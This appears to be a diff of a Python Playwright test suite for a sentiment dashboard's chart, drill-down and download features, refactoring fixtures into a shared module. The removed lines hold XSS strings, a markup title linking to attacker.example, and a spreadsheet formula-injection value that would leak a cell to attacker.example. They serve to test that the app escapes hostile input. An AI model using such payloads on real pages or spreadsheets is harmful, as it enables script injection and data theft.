@@ -4,9 +4,6 @@ from __future__ import annotations
 
 import csv
 import json
-import os
-import shutil
-from collections.abc import Iterator
 from datetime import date, datetime
 from pathlib import Path
 from typing import Any
@@ -17,106 +14,20 @@ import pytest
 
 from dashboard.packing import pack, unpack
 from ravine.analytics import make_periods
-from ravine.db import make_engine, make_session_factory, session_scope
-from ravine.repository.apikeys import create_key
-from tests.api.conftest import load_sample_into
+from tests.dashboard.browser import (
+    FLAGS,
+    FORMULA,
+    HTML_TITLE,
+    WEEK,
+    XSS,
+    expected_periods,
+    figure_body,
+    open_chart,
+    period_value,
+    sync_api,
+    trace_points,
+)
 from tests.dashboard.test_packing import three_years_of_days
-from tests.databases import DatabaseFactory
-from tests.server import serving
-
-CHROMIUM = "/usr/bin/chromium"
-FLAGS = [
-    "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
-    "--disable-component-update", "--no-first-run", "--disable-sync",
-]  # fmt: skip
-XSS = ["<script>alert('xss')</script> terrible service", "<img src=x onerror=alert(2)> so bad"]
-# A statement whose title is markup: shown as text wherever the page shows titles.
-HTML_TITLE = '<a href="https://attacker.example/">Click</a> <b style="color:red">now</b>'
-# A text a spreadsheet would run as a formula, were it written as it is.
-FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1, "click me") worst airline'
-
-WEEK = {"entity": "northwind-air", "freq": "week", "since": "2025-06-02", "until": "2025-08-31"}
-
-sync_api = pytest.importorskip("playwright.sync_api", reason="Playwright for Python is missing")
-
-
-@pytest.fixture(scope="module")
-def chromium_path() -> str:
-    if shutil.which(CHROMIUM):
-        return CHROMIUM
-    if os.environ.get("CI"):
-        pytest.fail(f"{CHROMIUM} is missing; .ci/run installs Debian's chromium")
-    pytest.skip(f"no Chromium at {CHROMIUM} (apt-get install chromium chromium-driver)")
-
-
-@pytest.fixture(scope="module")
-def site(tmp_path_factory: pytest.TempPathFactory, chromium_path: str) -> Iterator[str]:
-    """The sample plus two documents that try to run script, served by `ravine serve`."""
-    url = DatabaseFactory("sqlite", tmp_path_factory.mktemp("site")).migrated()
-    load_sample_into(url)
-    engine = make_engine(url)
-    with session_scope(make_session_factory(engine), write=True) as session:
-        _, key = create_key(session, name="browser-tests")
-    engine.dispose()
-    with serving(url) as base:
-        documents = [
-            {"external_id": f"xss-{i}", "text": text, "created_at": "2025-07-16T12:00:00Z"}
-            for i, text in enumerate([*XSS, FORMULA])
-        ]
-        pushed = httpx.post(
-            f"{base}/api/v1/documents", headers={"X-API-Key": key}, timeout=30,
-            json={"entity": "northwind-air", "voice": "public", "documents": documents},
-        )  # fmt: skip
-        assert pushed.status_code == 200, pushed.text
-        statement = {"external_id": "html-title", "title": HTML_TITLE,
-                     "text": "We are pleased.", "created_at": "2025-07-15T14:00:00Z"}  # fmt: skip
-        pushed = httpx.post(
-            f"{base}/api/v1/documents", headers={"X-API-Key": key}, timeout=30,
-            json={"entity": "northwind-air", "voice": "corporate", "documents": [statement]},
-        )  # fmt: skip
-        assert pushed.status_code == 200, pushed.text
-        yield base
-
-
-@pytest.fixture
-def page(site: str, chromium_path: str) -> Iterator[Any]:
-    with sync_api.sync_playwright() as playwright:
-        browser = playwright.chromium.launch(executable_path=chromium_path, args=FLAGS)
-        # The tests' own scripts (wait_for_function) are evaluated strings, which the page's
-        # content policy forbids; test_the_page_keeps_to_its_content_policy runs without this.
-        context = browser.new_context(
-            viewport={"width": 1280, "height": 1000}, accept_downloads=True, bypass_csp=True
-        )
-        tab = context.new_page()
-        tab.dialogs = []
-        tab.on("dialog", lambda dialog: (tab.dialogs.append(dialog.message), dialog.dismiss()))
-        yield tab
-        browser.close()
-
-
-def open_chart(page: Any, site: str, **params: str) -> None:
-    query = "&".join(f"{k}={v}" for k, v in params.items())
-    page.goto(f"{site}/?{query}")
-    page.wait_for_function("document.getElementById('chart').dataset.points !== undefined")
-
-
-def trace_points(page: Any) -> dict[str, int]:
-    return page.evaluate(
-        """() => Object.fromEntries(document.getElementById('chart').data
-            .filter(t => t.meta && t.meta.role === 'voice').map(t => [t.meta.voice, t.x.length]))"""
-    )
-
-
-def figure_body(site: str, **params: str) -> dict[str, Any]:
-    body: dict[str, Any] = httpx.get(f"{site}/dashboard/figure", params=params, timeout=30).json()
-    return body
-
-
-def expected_periods(site: str, **params: str) -> list[str]:
-    """The period labels: the x of the voice lines the server packed."""
-    figure = unpack(figure_body(site, **params)["figure"])
-    periods: list[str] = next(t["x"] for t in figure["data"] if t["meta"]["role"] == "voice")
-    return periods
 
 
 def test_chart_draws_every_period_and_a_screenshot_is_kept(
@@ -151,7 +62,13 @@ def test_clicking_a_period_lists_its_documents_as_text(page: Any, site: str) -> 
     page.mouse.move(point["x"], point["y"])
     page.mouse.click(point["x"], point["y"])
     page.wait_for_selector("#docs-public tr td.text")
-    assert page.locator("#drill-title").inner_text() == "Documents of 2025-07-14"
+    # A week is titled by its first and last day, in the chart's zone, and is in view.
+    assert (
+        page.locator("#drill-title").inner_text() == "Documents of 2025-07-14 to 2025-07-20 (UTC)"
+    )
+    assert page.evaluate("document.activeElement.id") == "drill-title"
+    box = page.locator("#drill-title").bounding_box()
+    assert box is not None and 0 <= box["y"] < page.viewport_size["height"]
     cells = page.locator("#docs-public td.text").all_inner_texts()
     assert any(XSS[0] in text for text in cells) and any(XSS[1] in text for text in cells)
     assert page.locator("#docs-public img, #docs-public script").count() == 0
@@ -234,7 +151,7 @@ def test_drill_down_asks_for_the_utc_bounds_of_each_period_across_dst(page: Any,
         list(b) for b in periods.utc_bounds()
     ]
     with page.expect_request(lambda r: "/api/v1/documents" in r.url) as asked:
-        page.select_option("#period", label="2025-03-09")  # 23 hours long
+        page.select_option("#period", value=period_value(page, "2025-03-09"))  # 23 hours long
     query = parse_qs(urlsplit(asked.value.url).query)
     assert (query["since"], query["until"]) == (["2025-03-09T05:00:00Z"], ["2025-03-10T04:00:00Z"])
 
@@ -267,7 +184,7 @@ def test_chart_png_and_documents_csv_downloads(page: Any, site: str, tmp_path: P
     png = tmp_path / "chart.png"
     download.value.save_as(png)
     assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and png.stat().st_size > 20_000
-    page.select_option("#period", label="2025-07-14")
+    page.select_option("#period", value=period_value(page, "2025-07-14"))
     page.wait_for_selector("#docs-public tr td.text")
     with page.expect_download() as download:
         page.click("#download-docs")
